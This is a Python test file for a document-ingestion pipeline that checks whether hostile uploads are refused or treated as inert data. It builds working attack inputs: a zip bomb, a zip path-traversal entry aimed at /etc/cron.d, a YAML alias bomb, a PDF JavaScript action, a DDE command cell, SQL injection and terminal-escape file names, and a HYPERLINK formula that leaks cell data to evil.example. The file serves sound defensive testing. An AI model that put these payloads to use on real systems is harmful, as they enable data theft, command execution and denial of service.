"""Hostile files and folders that are added: bounded, refused by name or read as data; nothing half-registered, nothing
written elsewhere.
"""

from __future__ import annotations

import io
import os
import random
import zipfile
from pathlib import Path

import pytest
from effort import within
from old_workbooks import xls
from openpyxl import Workbook
from pdf_pages import Page, pdf
from places import Place

from pipelines.documents import ADDED, NEEDS, REFUSED, UNCHANGED, FileResult, register_files
from tests.unit.library.test_library import BALANCE
from tickmark.cli.add import file_line
from tickmark.entities.own_companies import own_company
from tickmark.errors import ConfigError
from tickmark.library.collect import collect
from tickmark.library.records import Library
from tickmark.library.sidecar import NAME
from tickmark.settings import settings

SECONDS = 20.0  # of CPU for one file


def registered(folder: Path, **options: object) -> dict[str, FileResult]:
    with within(SECONDS * max(1, len(list(folder.rglob("*"))))):
        files, _ = register_files(settings(), list(collect([str(folder)], recursive=True)), notes=False, **options)  # type: ignore[arg-type]
    return {file.source.path.name: file for file in files}


def bomb() -> bytes:
    """A workbook whose sheet unpacks to a gigabyte."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/workbook.xml", "<workbook/>")
        with package.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(256):
                part.write(bytes(2**22))
    return target.getvalue()


def many_sheets(count: int) -> bytes:
    book = Workbook()
    for _ in range(count):
        book.create_sheet()
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def formulas() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (
        ["Name", "Value"],
        ['=HYPERLINK("http://evil.example/?"&A1)', 5],
        ["=cmd|'/c calc'!A1", 7],
        ["'; DROP TABLE sheets; --", 9],
    ):
        sheet.append(row)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def with_script() -> bytes:
    page = Page()
    page.text(72, 700, "Acme Annual report for the year ended December 31, 2023")
    return pdf(page).replace(
        b"<< /Type /Catalog", b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type /Catalog"
    )


HOSTILE = {
    "a bomb.xlsx": (bomb, REFUSED),
    "ten thousand sheets.xls": (lambda: xls({f"S{n}": [["a", 1]] for n in range(10_000)}), REFUSED),
    "too many sheets.xlsx": (lambda: many_sheets(1_200), REFUSED),
    "traversal.xlsx": (
        lambda: zipped(
            {"../../../etc/cron.d/evil": b"x", "xl/workbook.xml": b"<workbook/>", "[Content_Types].xml": b"<Types/>"}
        ),
        REFUSED,
    ),
    "an archive.pdf": (lambda: zipped({"a.txt": b"x"}), REFUSED),
    "malformed.pdf": (
        lambda: (
            b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\nxref\n0 99999999\ntrailer << /Root 1 0 R "
            b"/Size 99999999 >>"
        ),
        REFUSED,
    ),
    "nested.json": (lambda: b"[" * 100_000, REFUSED),
    "nothing.csv": (lambda: b" \n\n", REFUSED),
    "noise.xls": (
        lambda: (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + "Workbook".encode("utf-16-le")
            + b"\0\0"
            + random.Random(1).randbytes(9000)
        ),
        REFUSED,
    ),
    "never closed.csv": (lambda: b'a,b\n"' + b"x" * 2_000_000, REFUSED),
    "a script.pdf": (with_script, ADDED),
}


def zipped(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return target.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_by_name_and_leaves_nothing(name: str, place: Place) -> None:
    make, status = HOSTILE[name]
    folder = place.folder / "Acme"
    folder.mkdir()
    (folder / name).write_bytes(make())
    (folder / "balance.csv").write_text(BALANCE)
    found = registered(folder)
    assert found[name].status == status and found["balance.csv"].status == ADDED, found[name]
    names = {record.name for record in Library.of(settings()).all()}
    assert names == {"balance.csv"} | ({name} if status == ADDED else set())
    objects = list(Path(place.data).rglob("*.gz"))
    assert len(objects) == len(names), "only what is registered is stored"
    if status == REFUSED:
        assert found[name].said[0] and len(found[name].said[0]) < 600


def test_a_large_file_is_refused_before_it_is_read(place: Place) -> None:
    folder = place.folder / "Acme"
    folder.mkdir()
    with (folder / "huge.csv").open("wb") as stream:
        stream.truncate(3 * 2**40 if os.environ.get("TICKMARK_SPARSE_TB") else 200 * 2**20)
    assert "limit" in registered(folder)["huge.csv"].said[0]


def test_links_that_lead_out_of_a_folder_and_round_in_it_are_passed_over(place: Place) -> None:
    folder = place.folder / "Acme"
    folder.mkdir()
    outside = place.folder / "secret.csv"
    outside.write_text(BALANCE)
    (folder / "link.csv").symlink_to(outside)
    (folder / "loop").symlink_to(folder)
    (folder / "broken.csv").symlink_to(folder / "missing.csv")
    os.mkfifo(folder / "pipe.csv")
    (folder / "balance.csv").write_text(BALANCE + "\n")
    found = registered(folder)
    assert {name: file.status for name, file in found.items()} == {
        "balance.csv": ADDED,
        "pipe.csv": REFUSED,
        "broken.csv": REFUSED,
    }


def test_names_of_files_and_folders_command_nothing(place: Place) -> None:
    folder = place.folder / "Acme'; DROP TABLE facts;--\x1b[31m"
    folder.mkdir()
    (folder / "a\x1b]0;title\x07\n.csv").write_text(BALANCE)
    (found,) = registered(folder).values()
    assert found.status == ADDED and found.record is not None
    assert not set("\x1b\x07\n") & set(file_line(found))
    written = [path for path in place.folder.rglob("*.json") if "library" in path.parts]
    assert written and all(path.is_relative_to(place.data) for path in written)
    assert all(
        part.replace("=", "").replace("-", "").replace(".", "").isalnum()
        for path in written
        for part in path.relative_to(place.data).parts
    )


@pytest.mark.parametrize("key", ["../../etc", "a/b", "..", ".hidden", "A" * 40, "A B", "a\0b"])
def test_a_key_is_no_path(key: str) -> None:
    with pytest.raises(ConfigError):
        own_company("Acme", key=key)


def test_a_sidecar_that_grows_when_it_is_read_is_refused(place: Place) -> None:
    folder = place.folder / "Acme"
    folder.mkdir()
    (folder / "balance.csv").write_text(BALANCE)
    layers = [
        "a: &a [x, x, x, x, x, x, x, x, x]",
        *(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]" for n in range(12)),
    ]
    (folder / NAME).write_text("\n".join([*layers, "files: {balance.csv: {company: *m}}"]))
    with within(SECONDS), pytest.raises(ConfigError, match="no single value"):
        registered(folder)


def test_formulas_and_commands_of_cells_are_text(place: Place) -> None:
    folder = place.folder / "Acme"
    folder.mkdir()
    (folder / "cells 2024-03-31.xlsx").write_bytes(formulas())
    (found,) = registered(folder).values()
    assert found.status in (ADDED, NEEDS) and found.record is not None and found.record.form == "SHEET"
    (again,) = registered(folder).values()
    assert again.status == UNCHANGED
